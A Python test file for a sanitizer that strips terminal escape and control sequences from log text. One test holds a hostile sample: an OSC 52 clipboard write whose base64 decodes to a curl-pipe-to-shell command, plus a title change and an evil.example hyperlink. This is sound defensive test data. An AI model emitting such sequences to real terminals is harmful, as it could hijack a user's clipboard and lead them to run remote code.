"""The one rule for log text that reaches the terminal: no escape sequence survives."""

from __future__ import annotations

from hypothesis import given
from hypothesis import strategies as st

from cockpit.core.sanitize import clean_text, has_control

OOM = "torch.OutOfMemoryError: CUDA out of memory."


def test_plain_text_is_returned_as_is() -> None:
    line = "[2026-01-01 10:00:00 TP3] Capture cuda graph end. mem usage=3.75 GB. avail mem=0.82 GB."
    assert clean_text(line) is line
    assert not has_control(line)


def test_colour_codes_are_dropped() -> None:
    assert clean_text("\x1b[32mINFO\x1b[0m ready") == "INFO ready"


def test_osc_clipboard_title_and_hyperlink_are_dropped() -> None:
    hostile = (
        OOM
        + "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"  # clipboard write, BEL-terminated
        + "\x1b]0;pwned\x1b\\"  # window title, ST-terminated
        + "\x1b]8;;https://evil.example/\x07click\x1b]8;;\x07"  # hyperlink
    )
    assert clean_text(hostile) == OOM + "click"


def test_reset_dcs_and_unterminated_strings_are_dropped() -> None:
    assert clean_text("a\x1bcb") == "ab"
    assert clean_text("a\x1bP1$qm\x1b\\b") == "ab"
    assert clean_text("a\x1b]52;c;unterminated") == "a"
    assert clean_text("a\x9d0;title\x9cb") == "ab"


def test_newlines_and_tabs() -> None:
    assert clean_text("a\tb\nc\rd\x00") == "a\tb\ncd"
    assert clean_text("a\nb", keep_newlines=False) == "ab"


@given(st.text(alphabet=st.characters(max_codepoint=0xFF)))
def test_no_control_survives(text: str) -> None:
    out = clean_text(text)
    assert "\x1b" not in out
    assert not any(0x80 <= ord(c) <= 0x9F for c in out)
    assert all(c in "\t\n" or ord(c) >= 0x20 for c in out if ord(c) < 0x20)
    assert clean_text(out) == out  # idempotent
